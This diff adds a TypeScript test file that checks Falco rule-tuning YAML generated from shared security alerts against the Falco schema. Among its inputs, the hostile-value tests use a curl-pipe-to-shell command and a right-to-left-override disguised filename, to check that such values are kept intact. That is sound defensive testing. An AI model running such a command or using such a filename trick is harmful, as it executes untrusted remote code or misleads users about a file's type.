@@ -1,0 +1,92 @@
+import { describe, expect, it } from 'vitest';
+import { readFileSync } from 'node:fs';
+import { fileURLToPath } from 'node:url';
+import Ajv from 'ajv';
+import draft6 from 'ajv/dist/refs/json-schema-draft-06.json';
+import { parse } from 'yaml';
+import { buildTuning } from './tuning';
+import { playbookForRule } from '../knowledge/playbooks';
+import { makeAlert, SHARED_FALCO } from '../testing/alerts';
+import { sessionOf, sharedAlertFiles } from '../testing/sharedAlerts';
+
+const schema = JSON.parse(readFileSync(fileURLToPath(new URL('rule-schema.json', SHARED_FALCO)), 'utf8'));
+const ajv = new Ajv({ strict: false, allErrors: true });
+ajv.addMetaSchema(draft6);
+const validateRules = ajv.compile(schema);
+
+function expectValidFalco(yaml: string): unknown[] {
+  const doc = parse(yaml) as unknown[];
+  const ok = validateRules(doc);
+  expect(validateRules.errors ?? [], yaml).toEqual([]);
+  expect(ok).toBe(true);
+  return doc;
+}
+
+type ExceptionItem = { name: string; fields: string[]; comps: string[]; values: string[][] };
+type RuleItem = { rule: string; exceptions?: ExceptionItem[]; override?: Record<string, string>; append?: boolean; enabled?: boolean };
+
+describe('tuning snippets generated from every shared alert', () => {
+  const session = sessionOf(sharedAlertFiles());
+  const reports = session.summaries().map((s) => session.report(s.id)!);
+
+  it('cover every incident', () => {
+    expect(reports.length).toBeGreaterThan(20);
+  });
+
+  it.each(reports.map((r) => [`${r.incident.rule} / ${r.incident.entity.label}`, r] as const))('%s: valid per Falco schema, exact', (_name, report) => {
+    const [item] = expectValidFalco(report.tuning.yaml) as RuleItem[];
+    expect(item!.rule).toBe(report.alert.rule);
+    expect(item!.append).toBeUndefined(); // deprecated syntax, never generated
+    if (item!.exceptions) {
+      expect(item!.override).toEqual({ exceptions: 'append' });
+      const [exception] = item!.exceptions;
+      expect(exception!.fields.length).toBe(exception!.comps.length);
+      for (const values of exception!.values) expect(values.length).toBe(exception!.fields.length);
+      // Values come back exactly as in the alert: quoting kept them strings.
+      exception!.fields.forEach((field, i) => {
+        expect(exception!.values[0]![i]).toBe(String(report.alert.outputFields[field]));
+      });
+    } else {
+      expect(item).toMatchObject({ enabled: false, override: { enabled: 'replace' } });
+    }
+    if (report.tuning.alternative) {
+      const [list] = expectValidFalco(report.tuning.alternative.yaml) as { list: string; items: string[]; override: object }[];
+      expect(list!.override).toEqual({ items: 'append' });
+    }
+  });
+});
+
+describe('tuning with hostile and tricky values', () => {
+  it.each([
+    'sh -c "curl http://x | sh"',
+    "it's: a [list], {map} & *alias #comment",
+    'yes',
+    'null',
+    '0x1F',
+    '- item',
+    'multi\nline\tvalue',
+    '\u202Eexe.gnp',
+    '"quoted"',
+    '',
+  ])('keeps %j exactly and valid', (value) => {
+    const alert = makeAlert({ rule: 'PTRACE attached to process', outputFields: { 'proc.name': value || 'x', 'proc.exepath': value || 'x' } });
+    const tuning = buildTuning(alert, playbookForRule(alert.rule));
+    const [item] = expectValidFalco(tuning.yaml) as RuleItem[];
+    expect(item!.exceptions![0]!.values[0]).toContain(value || 'x');
+  });
+
+  it('uses the PTRACE allow list as an alternative', () => {
+    const alert = makeAlert({ rule: 'PTRACE attached to process', outputFields: { 'proc.name': 'gdb' } });
+    const tuning = buildTuning(alert, playbookForRule(alert.rule));
+    expect(tuning.alternative?.yaml).toContain('known_ptrace_binaries');
+    const [list] = parse(tuning.alternative!.yaml) as { items: string[] }[];
+    expect(list!.items).toEqual(['gdb']);
+  });
+
+  it('never builds an exception on volatile or indexed fields', () => {
+    const alert = makeAlert({ rule: 'Custom', outputFields: { 'proc.pid': 42, 'evt.time': 1, 'proc.aname[2]': 'x' } });
+    const [item] = parse(buildTuning(alert, null).yaml) as RuleItem[];
+    expect(item!.exceptions).toBeUndefined();
+    expect(item!.enabled).toBe(false);
+  });
+});
